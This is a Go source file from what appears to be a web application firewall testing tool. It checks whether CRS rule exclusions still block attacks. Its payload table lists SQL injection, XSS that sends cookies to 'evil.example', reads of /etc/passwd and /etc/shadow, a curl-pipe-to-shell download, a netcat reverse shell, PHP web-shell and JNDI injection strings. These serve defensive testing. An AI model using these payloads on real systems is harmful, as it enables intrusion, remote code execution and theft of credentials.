package exclusion

import (
	"context"
	"fmt"
	"io/fs"
	"net/http"
	"slices"
	"strings"
	"unicode/utf8"

	"github.com/wafcanary/wafcanary/gates"
	"github.com/wafcanary/wafcanary/ruleset"
	"github.com/wafcanary/wafcanary/suite"
	"github.com/wafcanary/wafcanary/verdict"
)

// family is what a CRS rule detects, by its file's number, with the
// attacks that stand for it in the same variable.
type family struct {
	name    string
	attacks []string
}

// Attacks per CRS family, picked by hand: each is tried in the excluded
// variable, and the ones the baseline blocks become must_block cases. SQL
// injection and XSS are tried for every exclusion, whatever the rule:
// they are what an opened variable lets through first. They come on top
// of the removed rules' own CRS regression-test payloads (sampleCRS),
// and stand for attacks those tests do not spell out: XSS that needs no
// alert( and no event handler (a script or frame loaded from elsewhere, a
// cookie sent out by an image), which other XSS rules do not catch once
// the tag rules are gone (issue 27).
var (
	sqli = family{"SQL injection", []string{
		"1' OR '1'='1' --",
		"' UNION SELECT username, password FROM users--",
		"1; DROP TABLE users--",
		"1 AND SLEEP(5)",
		"admin'--",
	}}
	xss = family{"XSS", []string{
		"<script>alert(document.cookie)</script>",
		"<img src=x onerror=alert(1)>",
		"javascript:alert(1)",
		"<script src=//evil.example/x.js></script>",
		"<iframe src=javascript:alert(1)>",
		"<iframe src=//evil.example/frame.html></iframe>",
		"new Image().src='//evil.example/?'+document.cookie",
		"<svg/onload=alert(1)>",
		"<a href=javascript:fetch('//evil.example/'+document.cookie)>x</a>",
	}}
	families = map[int]family{
		930: {"path traversal and file access", []string{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/shadow", "....//....//etc/passwd"}},
		931: {"remote file inclusion", []string{"http://203.0.113.9/shell.txt?", "ftp://203.0.113.9/x.php", "http://203.0.113.9/x.php%00"}},
		932: {"remote command execution", []string{"; cat /etc/passwd", "$(curl http://203.0.113.9/x.sh | sh)", "| nc -e /bin/sh 203.0.113.9 4444", "`id`"}},
		933: {"PHP injection", []string{"<?php system($_GET['cmd']); ?>", "php://filter/convert.base64-encode/resource=index.php", "eval(base64_decode($_POST['x']));"}},
		934: {"generic injection", []string{"require('child_process').exec('id')", "{{constructor.constructor('return process')()}}", "__proto__[isAdmin]=true"}},
		941: xss,
		942: sqli,
		944: {"Java injection", []string{"${jndi:ldap://203.0.113.9/a}", "java.lang.Runtime.getRuntime().exec(\"id\")", "${T(java.lang.Runtime).getRuntime().exec('id')}"}},
	}
)

// familiesFor returns the families whose attacks test an exclusion of
// rule: its own, then SQL injection and XSS.
func familiesFor(rule int) []family {
	out := []family{}
	if f, ok := families[rule/1000]; ok {
		out = append(out, f)
	}
	for _, f := range []family{sqli, xss} {
		if len(out) == 0 || out[0].name != f.name {
			out = append(out, f)
		}
	}
	return out
}

// familyOf names the family of rule, or "" for a rule of none.
func familyOf(rule int) string {
	return families[rule/1000].name
}

// Bounds of the sample of a removed rule's CRS regression-test payloads.
// A CRS rule has 1 to about 50 tests; 20 payloads the rule catches cover
// the shapes its tests were written for, and bound the judgements (about
// 2 ms each) to a few hundred for an exclusion of four rules.
const (
	maxPerRule      = 20   // payloads kept per rule and variable
	maxTriesPerRule = 60   // baseline judgements spent finding them
	maxTriesPerTest = 3    // values of one test tried: the attack is among the most unusual
	maxCasesPerRule = 5    // of the kept payloads, written as must_block cases
	maxPayloadBytes = 2048 // longer values are the suite's padding for size limits
)

// crsPayload is a value a CRS regression test sends, perhaps its attack.
type crsPayload struct {
	test  string // the test, as go-ftw names it: 941100-3
	value string
}

// crsCandidates lists, per CRS regression test in tests that expects
// rule to match, the values its request carries that may be the attack: at most
// maxTriesPerTest, the most unusual first, none seen in an earlier test.
// Which of them is the attack is for the caller to find (the rule matches
// it): a test's request carries its attack in the query, a form, JSON, a
// cookie, a header or a path, and the suite does not say where.
func crsCandidates(tests fs.FS, rule int) ([][]crsPayload, error) {
	cases, err := suite.LoadRule(tests, rule)
	if err != nil {
		return nil, fmt.Errorf("CRS regression tests: %w", err)
	}
	seen := map[string]bool{}
	var out [][]crsPayload
	for _, c := range cases {
		var vals []string
		for _, st := range c.Stages {
			if !slices.Contains(st.Output.ExpectIDs, rule) {
				continue
			}
			for _, p := range st.Input.Parts() {
				if attackable(p) && !seen[p.Value] && !slices.Contains(vals, p.Value) {
					vals = append(vals, p.Value)
				}
			}
		}
		slices.SortStableFunc(vals, func(a, b string) int { return unusual(b) - unusual(a) })
		vals = vals[:min(len(vals), maxTriesPerTest)]
		var test []crsPayload
		for _, v := range vals {
			seen[v] = true
			test = append(test, crsPayload{test: c.ID, value: v})
		}
		if len(test) > 0 {
			out = append(out, test)
		}
	}
	return out, nil
}

// stockHeaders are headers whose values in the CRS tests describe the
// test client or the connection, never the attack.
var stockHeaders = map[string]bool{
	"Host": true, "Connection": true, "Content-Length": true, "Transfer-Encoding": true,
	"Accept": true, "Accept-Encoding": true, "Accept-Language": true, "Accept-Charset": true,
	"Keep-Alive": true, "Proxy-Connection": true, "Cache-Control": true, "Pragma": true,
}

// attackable reports whether a test's value may be its attack and can be
// sent in another variable: printable text (arguments must be UTF-8 for
// the baseline's own limits), short, not the test client's identity.
func attackable(p suite.Part) bool {
	switch {
	case p.In == suite.InHeader && stockHeaders[http.CanonicalHeaderKey(p.Name)],
		p.In == suite.InHeader && strings.EqualFold(p.Name, "User-Agent") && strings.HasPrefix(p.Value, "OWASP CRS test agent"),
		len(p.Value) < 3 || len(p.Value) > maxPayloadBytes || !utf8.ValidString(p.Value):
		return false
	}
	return strings.ContainsFunc(p.Value, func(r rune) bool { return r < '0' || r > '9' })
}

// unusual counts the characters of v that are not letters, digits or
// spaces: an attack needs them (<, ', ;, /, $), a test's filler does not.
func unusual(v string) int {
	n := 0
	for _, r := range v {
		if !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == ' ') {
			n++
		}
	}
	return n
}

// sendable reports whether payload can travel in target as a client
// would send it: a header or cookie holds no line break or NUL.
func sendable(target, payload string) bool {
	v, _, _ := strings.Cut(target, ":")
	if v == "REQUEST_HEADERS" || v == "REQUEST_COOKIES" {
		return !strings.ContainsAny(payload, "\r\n\x00")
	}
	return true
}

// probe is one attack sent in an excluded variable.
type probe struct {
	c       gates.Case
	payload string
	test    string // the CRS regression test it comes from, "" for a family's
	// caughtBy are the rules that matched it in its variable at the
	// baseline.
	caughtBy []int
}

// sampleCRS sends rule's CRS regression-test payloads in target of
// carrier through the baseline, and keeps up to maxPerRule of those the
// baseline blocks with rule matching target: exactly the attacks whose
// blocking the rule's removal from target puts to the test. The sample is
// a pure function of the CRS tests, the baseline and the carrier: tests
// in order, values in the order crsCandidates gives. tests is how many of
// the rule's tests expect it to match and carry a value to try.
func sampleCRS(ctx context.Context, base *ruleset.Ruleset, carrier gates.Case, rule int, target, where string) (probes []probe, tests int, err error) {
	cands, err := crsCandidates(gates.TestsFS(base), rule)
	if err != nil {
		return nil, 0, err
	}
	tries := 0
	for _, test := range cands {
		if len(probes) == maxPerRule || tries == maxTriesPerRule {
			break
		}
		for _, p := range test {
			if tries == maxTriesPerRule {
				break
			}
			if !sendable(target, p.value) {
				continue
			}
			c, ok := inject(carrier, target, p.value)
			if !ok {
				return nil, 0, fmt.Errorf("CRS payload of %s: %s no longer takes a value, a bug in tune", p.test, target)
			}
			tries++
			v, err := judge(ctx, base, c)
			if err != nil {
				return nil, 0, err
			}
			if !v.Blocked || !slices.ContainsFunc(v.Rules, func(m verdict.RuleMatch) bool { return m.ID == rule && hasTarget(m.Targets, target) }) {
				continue
			}
			name := "CRS test " + p.test
			if f := familyOf(rule); f != "" {
				name += " (" + f + ")"
			}
			c.Name = fmt.Sprintf("%s in %s on %s: %s", name, target, where, clip(p.value))
			var by []int
			for _, m := range v.Rules {
				if hasTarget(m.Targets, target) {
					by = append(by, m.ID)
				}
			}
			probes = append(probes, probe{c: c, payload: p.value, test: p.test, caughtBy: by})
			break // one payload per test: the tests are the variety
		}
	}
	return probes, len(cands), nil
}

func hasTarget(targets []string, target string) bool {
	return slices.ContainsFunc(targets, func(t string) bool { return strings.EqualFold(t, target) })
}

// maxShownPayload bounds a payload in a case's name and in messages; the
// case itself sends it whole.
const maxShownPayload = 160

// clip is payload for a name or a message: escaped where not printable
// (shown), cut at maxShownPayload bytes with the length said.
func clip(payload string) string {
	s := shown(payload)
	if len(s) <= maxShownPayload {
		return s
	}
	n := maxShownPayload
	for n > 0 && !utf8.RuneStart(s[n]) {
		n--
	}
	return fmt.Sprintf("%s… (%d bytes)", s[:n], len(payload))
}
